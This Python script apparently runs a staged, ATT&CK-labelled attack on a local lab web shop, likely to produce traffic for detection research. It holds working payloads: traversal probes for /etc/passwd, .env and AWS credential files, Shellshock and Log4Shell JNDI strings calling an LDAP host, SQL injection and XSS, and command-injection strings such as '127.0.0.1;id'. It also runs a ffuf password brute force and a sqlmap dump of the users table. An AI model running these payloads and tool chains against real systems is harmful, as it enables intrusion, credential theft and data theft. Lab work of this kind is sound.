"""The attack on the web shop: look for pages and holes, guess a log-in, read the database, run commands."""

from __future__ import annotations

import subprocess
import time
from pathlib import Path
from urllib.parse import quote

from clock import Clock
from journal import Journal
from world import FORM_GUESSER, INJECTOR, SCANNER, SITE

_HERE = Path(__file__).resolve().parent
_PROBES = (
    "/../../../../etc/passwd",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/static/..%252f..%252fetc/passwd",
    "/.env",
    "/.git/config",
    "/.htpasswd",
    "/.aws/credentials",
    "/wp-login.php",
    "/wp-content/plugins/hello.php",
    "/xmlrpc.php",
    "/phpmyadmin/index.php",
    "/admin.php",
    "/server-status",
    "/backup.zip",
    "/actuator/env",
    "/solr/admin/info/system",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/manager/html",
    "/cgi-bin/luci/;stok=/locale",
    "/boaform/admin/formLogin",
    "/index.php?page=php://filter/convert.base64-encode/resource=index",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/search?q=1%27%20OR%20%271%27=%271",
    "/search?q=$%7Bjndi:ldap://127.0.0.66:1389/a%7D",
)
_AGENT_PROBES = ("() { :; }; echo; /bin/id", "${jndi:ldap://127.0.0.66:1389/b}", "${jndi:${lower:l}dap://127.0.0.66/c}")
_AGENT = "Mozilla/5.0 (compatible; scan/1.0)"
_COMMANDS = (
    "127.0.0.1;id",
    "127.0.0.1;uname -a",
    "127.0.0.1|cat /etc/passwd",
    "127.0.0.1;ls -la /srv/shop",
    "$(whoami)",
)


def _run(*command: str) -> None:
    subprocess.run(command, capture_output=True, timeout=240, check=False, stdin=subprocess.DEVNULL)


def _curl(source: str, path: str, agent: str = _AGENT) -> None:
    _run(
        "curl",
        "-s",
        "-g",
        "--path-as-is",
        "--interface",
        source,
        "-A",
        agent,
        "-H",
        f"Host: {SITE}",
        f"http://127.0.0.1{path}",
    )


def _look_for_pages(journal: Journal) -> None:
    with journal.step("T1595.003", "reconnaissance", "tries a list of usual paths (gobuster)", addresses=(SCANNER,)):
        _run(
            "gobuster",
            "dir",
            "-q",
            "-t",
            "2",
            "--delay",
            "60ms",
            "-u",
            f"http://{SITE}/",
            "-w",
            str(_HERE / "paths.txt"),
        )
        time.sleep(1.5)


def _look_for_holes(journal: Journal) -> None:
    with journal.step("T1595.002", "reconnaissance", "sends the usual probes for known holes", addresses=(SCANNER,)):
        for path in _PROBES:
            _curl(SCANNER, path)
            time.sleep(0.3)
        for agent in _AGENT_PROBES:
            _curl(SCANNER, "/", agent)
        time.sleep(1.5)


def _guess_log_in(journal: Journal) -> None:
    target = FORM_GUESSER.replace("127.0.", "127.1.")
    with journal.step("T1110.001", "credential-access", "guesses the shop's log-in (ffuf)", addresses=(FORM_GUESSER,)):
        _run(
            "ffuf", "-s", "-t", "2", "-p", "0.2", "-u", f"http://{target}/login", "-X", "POST", "-H", f"Host: {SITE}",
            "-H", "Content-Type: application/x-www-form-urlencoded", "-d", "user=admin&password=FUZZ",
            "-w", str(_HERE / "passwords.txt"), "-mc", "302",
        )  # fmt: skip
        time.sleep(1.5)


def _read_database(journal: Journal) -> None:
    with journal.step(
        "T1190", "initial-access", "reads the customers by SQL injection (sqlmap)", addresses=(INJECTOR,)
    ):
        _run(
            "sqlmap", "--batch", "--disable-coloring", "--flush-session", "--technique=BU", "--dbms=sqlite",
            "-u", f"http://www.{SITE}/search?q=lamp", "-p", "q", "-T", "users", "--dump", "--delay", "0.1",
        )  # fmt: skip
        time.sleep(1.5)


def _read_settings(journal: Journal) -> None:
    with journal.step("T1190", "initial-access", "reads settings.ini by path traversal", addresses=(SCANNER,)):
        for path in ("/files../", "/files../app.py", "/files../settings.ini"):
            _curl(SCANNER, path)
            time.sleep(1)
        time.sleep(1.5)


def _run_commands(journal: Journal) -> None:
    with journal.step("T1059.004", "execution", "runs shell commands through the ping page", addresses=(SCANNER,)):
        for text in _COMMANDS:
            _curl(SCANNER, f"/tools/ping?host={quote(text)}", "curl/8.5.0")
            time.sleep(2)
        time.sleep(1.5)


def attack(clock: Clock, journal: Journal) -> None:
    """The whole attack, spread over the run."""
    steps = (_look_for_pages, _look_for_holes, _guess_log_in, _read_database, _read_settings, _run_commands)
    for number, step in enumerate(steps):
        clock.wait_until(0.12 + 0.13 * number)
        step(journal)
